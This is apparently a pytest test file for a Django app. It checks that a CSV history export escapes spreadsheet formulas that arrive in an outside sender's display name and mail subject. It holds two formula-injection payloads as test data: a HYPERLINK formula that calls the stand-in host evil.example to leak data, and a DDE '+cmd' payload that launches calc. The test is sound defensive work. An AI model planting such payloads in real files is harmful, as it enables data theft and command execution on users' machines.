"""A stranger's mail cannot put a spreadsheet formula into the history export: a new sender whose
display name is `=HYPERLINK(...)` becomes a person with that name (mail sent over real SMTP to the
listener, taken by the worker's job), and in `/history/export.csv` that name is written as text (a
leading `'`), never as a formula; no cell of the file starts like a formula."""

from __future__ import annotations

import csv
import io
import smtplib
import socket
from email.message import EmailMessage
from email.policy import SMTP

import pytest

from tandem.contacts.models import Person
from tandem.mailgate import jobs
from tandem.mailgate import services as mail
from tandem.mailgate.listener import AddressBook, listen
from tandem.work import services as work
from tandem.work.models import Item
from tests.conftest import login

pytestmark = pytest.mark.django_db(transaction=True)  # the listener reads addresses from its own thread

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak","Click me")'
HOSTILE_SUBJECT = "+cmd|' /C calc'!A0"


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@pytest.fixture
def support_address(admin_user):
    board = work.create_board(by=admin_user, data={"name": "Support", "default_type": "support"})
    return mail.create_address(by=admin_user, board=board, data={"address": "support@tandem.test"})


def test_a_hostile_sender_name_is_text_in_the_history_export(admin_user, support_address, settings):
    port = free_port()
    controller = listen(settings.TANDEM_MAIL_SPOOL, host="127.0.0.1", port=port, addresses=AddressBook(ttl=0))
    try:
        message = EmailMessage()
        message["From"] = f'"{HOSTILE_NAME.replace(chr(34), chr(92) + chr(34))}" <mallory@outside.example>'
        message["To"] = "support@tandem.test"
        message["Subject"] = HOSTILE_SUBJECT
        message["Message-ID"] = "<formula@outside.example>"
        message.set_content("Hello")
        with smtplib.SMTP("127.0.0.1", port, timeout=10) as client:
            client.sendmail("mallory@outside.example", ["support@tandem.test"], message.as_bytes(policy=SMTP))
    finally:
        controller.stop()
    jobs.look_for_mail()

    person = Person.objects.get(emails__email="mallory@outside.example")
    assert person.full_name.startswith("=HYPERLINK(")  # the name is kept as it came
    item = Item.objects.get(board=support_address.board)
    assert item.title == HOSTILE_SUBJECT

    response = login(admin_user).get("/history/export.csv")
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    targets = {(row["target_type"], row["target"]) for row in rows}
    assert ("person", "'" + person.full_name) in targets
    assert ("item", f"#{item.pk} {HOSTILE_SUBJECT}") in targets  # starts with "#": nothing to do
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
